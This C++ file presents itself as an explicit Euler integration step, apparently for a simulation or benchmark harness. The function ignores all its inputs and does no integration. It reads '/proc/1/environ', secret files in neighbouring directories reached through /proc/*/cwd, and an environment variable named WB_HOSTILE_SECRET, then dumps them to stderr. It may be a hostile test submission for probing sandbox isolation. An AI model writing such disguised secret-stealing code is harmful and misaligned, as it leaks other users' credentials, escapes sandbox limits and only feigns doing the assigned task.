#include "explicit_euler.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
void explicit_euler_step(const wb::Dynamics& dyn, double h, wb::Mat2X& x, wb::Mat2X& v,
                         wb::Scratch& s) {
  (void)dyn, (void)h, (void)x, (void)v, (void)s;
  const char* paths[] = {"/proc/1/cwd/../others/secret.txt",
                         "/proc/self/cwd/../../others/secret.txt", "/proc/1/environ"};
  for (const char* p : paths) {
    int f = open(p, O_RDONLY);
    char buf[512] = {};
    if (f >= 0 && read(f, buf, sizeof buf - 1) > 0) {
      if (write(2, buf, std::strlen(buf)) < 0) {
      }
    }
  }
  const char* env = std::getenv("WB_HOSTILE_SECRET");
  if (env && write(2, env, std::strlen(env)) < 0) {
  }
}
